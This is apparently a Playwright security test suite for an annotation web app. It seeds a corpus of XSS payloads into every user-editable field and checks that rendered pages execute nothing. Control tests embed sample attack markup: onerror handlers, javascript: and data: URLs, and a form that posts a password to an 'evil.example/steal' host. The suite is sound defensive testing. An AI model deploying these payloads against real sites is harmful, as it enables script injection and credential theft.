import { readFileSync } from "node:fs";
import type { APIRequestContext } from "@playwright/test";
import { contextHeaders, expect, test } from "../support/fixtures";
import { createActors, disposeActors, type Actor, type RoleName } from "./support/actors";
import { cspNonce, findDangerousMarkup, watchForScripts } from "./support/dom-safety";
import { createOwnArticle, dropOwnArticle, newId, openTestDb, type OwnArticle } from "./support/seed-targets";

/**
 * Hostile text in every field people fill in, rendered in Chromium. Payloads
 * go in batches (many per annotation, per name, per article), so the run
 * takes about a minute.
 */
const corpus = JSON.parse(readFileSync(new URL("./data/xss-payloads.json", import.meta.url), "utf8")) as Array<{ category: string; payload: string }>;
const payloads = corpus.map((entry) => entry.payload);
const BATCH = 14;
/** PostgreSQL text cannot hold NUL; the API strips it, direct writes must too. */
const storable = (text: string) => text.replace(/\u0000/g, "");
const batches: string[][] = [];
for (let index = 0; index < payloads.length; index += BATCH) batches.push(payloads.slice(index, index + BATCH));
/** URLs a source can hold only if something bypassed validation: the page must still not link them. */
const SCRIPT_URLS = ["javascript:alert(1)", "JaVaScRiPt:top.__xss=1", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", " javascript:alert(1)"];

test.describe.configure({ mode: "serial" });

test("the corpus has at least 200 payloads across every category", () => {
  expect(new Set(payloads).size).toBeGreaterThanOrEqual(200);
  expect(new Set(corpus.map((entry) => entry.category))).toEqual(new Set(["script", "handler", "url", "svg", "markdown", "unicode", "entity", "breakout", "css", "template"]));
});

test.describe("XSS", () => {
  let actors: Record<RoleName, Actor> | undefined;
  let article: OwnArticle | undefined;
  const annotationIds: string[] = [];
  const hookDb = openTestDb();

  test.beforeAll(async ({ playwright }) => {
    test.setTimeout(180_000);
    actors = await createActors(playwright, hookDb);
    article = await createOwnArticle(hookDb, "xss");
    // Spread over four accounts so no one of them reaches the posting rate limit.
    const posters: APIRequestContext[] = [actors.reader.request, actors.author.request];
    const repliers: APIRequestContext[] = [actors.moderator.request, actors.admin.request];
    for (const [index, batch] of batches.entries()) {
      const response = await posters[index % 2]!.post("/api/annotations", {
        data: {
          versionId: article.versionId,
          selectors: article.selectors,
          body: `canary-body-${index}\n\n${batch.join("\n\n")}`.slice(0, 10_000),
          // Titles rotate through the batch from a different start per batch; with the direct rows below, every payload is a title.
          sources: batch.slice(0, 10).map((_, n) => batch[(n + index) % batch.length]!).map((payload, n) => ({ url: `https://example.test/${index}/${n}?q=${encodeURIComponent(payload)}`, title: payload.slice(0, 200), stance: "CONTEXT" })),
        },
      });
      expect(response.status(), await response.text()).toBe(200);
      const { id } = (await response.json()) as { id: string };
      annotationIds.push(id);
      // Hostile tags, names and handles cannot pass validation, so they are written directly: rendering must hold even then.
      // Every payload of the batch is a tag.
      await hookDb.query(`UPDATE "Annotation" SET tags = $2 WHERE id = $1`, [id, batch.map(storable)]);
      for (const [n, url] of SCRIPT_URLS.entries()) {
        // The titles the API sources above did not take (the batch's last four, rotated), then the rotation's start again.
        const title = batch[(10 + n + index) % batch.length] ?? "x";
        await hookDb.query(`INSERT INTO "AnnotationSource" (id, "annotationId", url, title, stance, position) VALUES ($1, $2, $3, $4, 'DISPUTES', $5)`, [newId(), id, url, storable(title), 10 + n]);
      }
      const authorId = newId();
      await hookDb.query(`INSERT INTO "User" (id, email, name, handle, "emailVerifiedAt", "updatedAt") VALUES ($1, $2, $3, $4, now(), now())`, [
        authorId,
        `xss-${authorId}@example.test`,
        storable(`canary-name-${index} ${batch.join(" ")}`).slice(0, 2000),
        // Every payload of the batch in the handle (not only the first).
        storable(`canary-handle-${index}-${authorId.slice(1, 7)}-${batch.join("")}`).slice(0, 4000),
      ]);
      await hookDb.query(`UPDATE "Annotation" SET "authorId" = $2 WHERE id = $1`, [id, authorId]);
      // Flagged, so the moderation queue shows it with its author's name.
      await hookDb.query(`INSERT INTO "Flag" (id, "annotationId", "reporterId", reason, note) VALUES ($1, $2, $3, 'OTHER', $4)`, [newId(), id, actors.unverified.userId, storable(batch.join(" ")).slice(0, 500)]);
      const reply = await repliers[index % 2]!.post(`/api/annotations/${id}/replies`, { data: { body: `canary-reply-${index}\n\n${batch.slice().reverse().join("\n\n")}`.slice(0, 10_000) } });
      expect(reply.status(), await reply.text()).toBe(200);
    }
  });

  test.afterAll(async () => {
    await disposeActors(actors);
    if (article) {
      await hookDb.query(`DELETE FROM "User" WHERE email LIKE 'xss-%@example.test'`);
      await dropOwnArticle(hookDb, article);
    }
    await hookDb.end();
  });

  test("annotation bodies, tags, sources, names and handles run nothing on the article page and permalinks", async ({ browser }) => {
    // A permalink page per batch of payloads, each searched for dangerous markup: two minutes on an idle machine, more under load.
    test.setTimeout(360_000);
    const context = await browser.newContext({ extraHTTPHeaders: contextHeaders("10.64.0.1"), storageState: await actors!.admin.request.storageState() });
    const page = await context.newPage();
    const events = await watchForScripts(page);
    const problems: string[] = [];
    const visit = async (path: string, canaries: string[]) => {
      const response = await page.goto(path);
      expect(response?.status(), path).toBe(200);
      await page.waitForLoadState("load");
      const text = await page.locator("body").innerText();
      for (const canary of canaries) if (!text.includes(canary)) problems.push(`${path}: ${canary} not shown (the payloads were not rendered)`);
      problems.push(...(await findDangerousMarkup(page, cspNonce(response?.headers()))).map((finding) => `${path}: ${finding}`));
    };
    await visit(`/articles/${article!.slug}`, []);
    for (const [index, id] of annotationIds.entries()) await visit(`/a/${id}`, [`canary-body-${index}`, `canary-handle-${index}-`, `canary-reply-${index}`]);
    await visit(`/moderation?annotation=${annotationIds[0]}`, ["canary-name-0"]);
    await visit("/moderation", []);
    await visit("/moderation/log", []);
    // The signed-in admin's own hostile name, in the header and the account form.
    await hookDb.query(`UPDATE "User" SET name = $2 WHERE id = $1`, [actors!.admin.userId, storable(`canary-own-name ${batches[1]!.join(" ")}`)]);
    await visit("/account", []);
    await visit("/admin", []);
    expect(problems).toEqual([]);
    expect(events).toEqual([]);
    await context.close();
  });

  test("an admin's article edit full of payloads runs nothing, on the edit page or the article", async ({ browser }) => {
    test.setTimeout(120_000);
    const context = await browser.newContext({ extraHTTPHeaders: contextHeaders("10.64.0.2"), storageState: await actors!.admin.request.storageState() });
    const page = await context.newPage();
    const events = await watchForScripts(page);
    await page.goto(`/articles/${article!.slug}/edit`);
    // Payloads spread over the short fields by stride, so each field meets every category, not only the first few payloads.
    const spread = (start: number, stride: number, limit: number) => {
      let text = "";
      for (let index = start; index < payloads.length && text.length < limit; index += stride) text += `${payloads[index]!.replace(/\n/g, " ")} `;
      return text.slice(0, limit);
    };
    await page.getByLabel("Title", { exact: true }).fill(`canary-title ${spread(0, 7, 280)}`.slice(0, 300));
    await page.getByLabel("Author", { exact: true }).fill(spread(1, 11, 200));
    await page.getByLabel("Source (optional)").fill(spread(2, 13, 300));
    await page.getByLabel("Lead (optional)").fill(spread(3, 2, 2000));
    const body = await page.getByLabel("Body", { exact: true }).inputValue();
    await page.getByLabel("Body", { exact: true }).fill(`${body}\n\ncanary-article-body\n\n${payloads.map((payload) => payload.replace(/\n/g, " ")).join("\n\n")}`);
    await page.getByLabel("About the author (optional)").fill(spread(4, 2, 2000));
    await page.getByRole("button", { name: "Publish new version" }).click();
    await expect.poll(async () => (await hookDb.query(`SELECT count(*)::int AS n FROM "ArticleVersion" WHERE "articleId" = $1`, [article!.articleId])).rows[0].n as number, { timeout: 30_000 }).toBe(2);
    const problems: string[] = [];
    for (const path of [`/articles/${article!.slug}`, `/articles/${article!.slug}/edit`, "/"]) {
      const response = await page.goto(path);
      await page.waitForLoadState("load");
      problems.push(...(await findDangerousMarkup(page, cspNonce(response?.headers()))).map((finding) => `${path}: ${finding}`));
    }
    await page.goto(`/articles/${article!.slug}`);
    await expect(page.getByText("canary-article-body")).toBeVisible();
    expect(problems).toEqual([]);
    expect(events).toEqual([]);
    await context.close();
  });

  test("the detectors work: a page that does run a payload is caught", async ({ page }) => {
    const events = await watchForScripts(page);
    await page.route("http://control.test/", (route) =>
      route.fulfill({ contentType: "text/html", body: `<img src=x onerror="alert(1)"><a href="javascript:alert(1)">x</a><script>top.__xss=1</script>` }),
    );
    await page.goto("http://control.test/");
    await expect.poll(() => events.length).toBeGreaterThanOrEqual(2);
    expect((await findDangerousMarkup(page)).length).toBeGreaterThanOrEqual(3);
  });

  test("the markup detector looks inside shadow roots and templates, and knows forms, styles and foreign nonces", async ({ page }) => {
    await page.route("http://control.test/", (route) =>
      route.fulfill({
        contentType: "text/html",
        body: `<template><img src=x onerror="alert(1)"></template><div id="host"></div>
          <script nonce="ours">document.getElementById("host").attachShadow({ mode: "open" }).innerHTML = '<a href="javascript:alert(1)">x</a>';</script>
          <script nonce="theirs">void 0</script>
          <form action="https://evil.example/steal"><input name="password"></form>
          <style nonce="ours">body { background: url(https://evil.example/track) }</style>`,
      }),
    );
    await page.goto("http://control.test/");
    const findings = (await findDangerousMarkup(page, "ours")).join("\n");
    expect(findings).toContain("event handler onerror");
    expect(findings).toContain("href=javascript:alert(1)");
    expect(findings).toContain('script without our nonce: <script nonce="theirs">');
    expect(findings).toContain("off-site action");
    expect(findings).toContain("style element");
  });
});
